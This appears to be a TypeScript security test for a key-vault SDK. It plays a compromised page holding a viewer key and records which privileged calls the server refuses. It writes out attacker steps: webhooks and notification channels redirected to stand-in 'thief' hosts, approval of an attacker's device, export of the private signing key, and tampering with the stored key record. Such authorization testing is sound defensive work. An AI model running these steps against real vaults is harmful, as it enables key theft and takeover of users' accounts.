/* Code that a page could run that was changed on its way: the whole SDK, with the key that this browser keeps. */
import {
  indexedDbKeystore,
  memoryKeystore,
  openVault,
  requestPairing,
  type Vault,
} from '../../../client/index.ts'
import { examples } from '../../../client/console/pages/explorer/examples.ts'

/** How each attempt ended: the code of its refusal, or `done`. */
export type Attempts = Readonly<Record<string, string>>

declare global {
  var attack: (known: { id: string; device: string; pretends: boolean }) => Promise<Attempts>
  var mutate: () => Promise<Attempts>
  var read: () => Promise<Attempts>
}

const shop = 'https://shop.example'

globalThis.read = async () => {
  const vault = await openVault({ keystore: indexedDbKeystore() })
  const { alerts } = await vault.alertHistory({ last: 1 })
  return attempt({
    account: () => vault.account(),
    keys: () => vault.keys().toArray(),
    webhooks: () => vault.webhooks(),
    acknowledge: () => vault.acknowledgeAlerts(alerts[0]?.cursor ?? ''),
  })
}

globalThis.attack = async ({ id, device, pretends }) => {
  if (pretends) await pretendToBeDevice()
  const vault = await openVault({ keystore: indexedDbKeystore() })
  return attempt({
    createKey: () => vault.createKey(shop),
    acquire: () => vault.acquire({ id }),
    acquireByDocument: () =>
      vault.graphql('query A($id: ID!) { wrappedKey(transactionKeyId: $id, purpose: EXPORT) { jwe } }', {
        id,
      }),
    updateKey: () => vault.updateKey(id, { label: 'Mine' }),
    rotateKey: () => vault.rotateKey(id),
    revokeKey: () => vault.revokeKey(id),
    destroyKey: () => vault.destroyKey(id),
    approveDevice: () => approveOwn(vault),
    exportBackup: async () => {
      const { keyCount } = await vault.exportBackup({ passphrase: 'a long passphrase' })
      if (keyCount === 0) throw new Error('EMPTY')
    },
    recovery: async () => (await vault.prepareRecovery()).register(),
    revokeDevice: () => vault.revokeDevice(device),
    setWebhook: () => vault.setWebhook('https://thief.example/'),
    removeWebhook: () => vault.removeWebhook(id),
    redeliverWebhook: () => vault.redeliverWebhook(id),
    addChannel: () => vault.addChannel('NTFY', 'https://ntfy.sh/thief'),
    removeChannel: () => vault.removeChannel(id),
    exportPrivateKey,
  })
}

/** Every mutation of the API as the explorer has it, but for those that are about no account and the one that reading is. */
globalThis.mutate = async () => {
  const vault = await openVault({ keystore: indexedDbKeystore() })
  const mutations = Object.entries(examples).filter(
    ([name, { document }]) => /^mutation/m.test(document) && !allowed.includes(name),
  )
  return attempt(
    Object.fromEntries(
      mutations.map(([name, { document, variables }]) => [name, () => vault.graphql(document, variables)]),
    ),
  )
}

const allowed = ['acknowledgeAlerts', 'openPairing', 'closePairing']

async function attempt(attempts: Record<string, () => Promise<unknown>>): Promise<Attempts> {
  const results: Record<string, string> = {}
  for (const [name, run] of Object.entries(attempts)) {
    results[name] = await run().then(
      () => 'done',
      (error: unknown) =>
        error instanceof Error && 'code' in error && typeof error.code === 'string'
          ? error.code
          : String(error),
    )
  }
  return results
}

/** Has the vault approve a device of the thief's. */
async function approveOwn(vault: Vault): Promise<void> {
  const { url, owner } = vault
  const { code } = await requestPairing({ url, owner, keystore: memoryKeystore() })
  await vault.approveDevice(await vault.lookUpPairing(code))
}

/** Removes from the keystore that the key is a VIEWER's: the SDK then tries what it would not have tried. */
async function pretendToBeDevice(): Promise<void> {
  await withRecord(({ kind: _kind, ...record }, store) => store.put(record, 'only'))
}

async function exportPrivateKey(): Promise<unknown> {
  const { signing } = await withRecord((record) => record)
  return crypto.subtle.exportKey('jwk', signing.privateKey)
}

interface StoredRecord {
  readonly kind?: string
  readonly signing: CryptoKeyPair
}

function withRecord<T>(work: (record: StoredRecord, store: IDBObjectStore) => T): Promise<T> {
  return new Promise((resolve, reject) => {
    const opening = indexedDB.open('claviger')
    opening.onerror = reject
    opening.onsuccess = () => {
      const database = opening.result
      const transaction = database.transaction('management-key', 'readwrite')
      const store = transaction.objectStore('management-key')
      const reading: IDBRequest<StoredRecord> = store.get('only')
      reading.onsuccess = () => {
        const result = work(reading.result, store)
        transaction.oncomplete = () => {
          database.close()
          resolve(result)
        }
      }
    }
  })
}
